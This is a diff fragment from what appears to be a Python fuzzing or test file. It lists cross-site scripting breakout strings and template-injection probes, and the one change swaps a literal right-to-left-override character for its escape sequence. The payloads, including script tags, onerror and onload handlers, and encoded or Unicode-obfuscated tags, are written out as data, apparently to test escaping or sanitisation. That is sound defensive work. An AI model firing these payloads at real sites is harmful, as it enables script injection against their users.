@@ -36,7 +36,7 @@ BREAKS = (
     '"><script>{}</script>', "'><script>{}</script>", '" onfocus={} autofocus x="', "' onfocus={} autofocus x='", "` onfocus={} autofocus x=`", '"><img src=x onerror={}>', "'\"><svg/onload={}>",
     "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "*/{}/*", '\\"-{}//', "\\'-{}//",
     "';{}//", '";{}//', "`;{}//", "${{{}}}", "</option></select><img src=x onerror={}>", "</mark><img src=x onerror={}>", "</bdi><script>{}</script>", "\n<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
-    "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "<\u200bscript>{}</script>", "<scr\u00adipt>{}</script>", "‮>tpircs/<{}>tpircs<",
+    "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "<\u200bscript>{}</script>", "<scr\u00adipt>{}</script>", "\u202e>tpircs/<{}>tpircs<",
 )  # fmt: skip
 TEMPLATES = (
     "{{7*7}}", "{% raw %}{{7*7}}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "@(7*7)", "{{=7*7}}", "{7*7}", "{{{7*7}}}", "{n}", "{name} {text}", "$&", "$1", "%s%s%n",
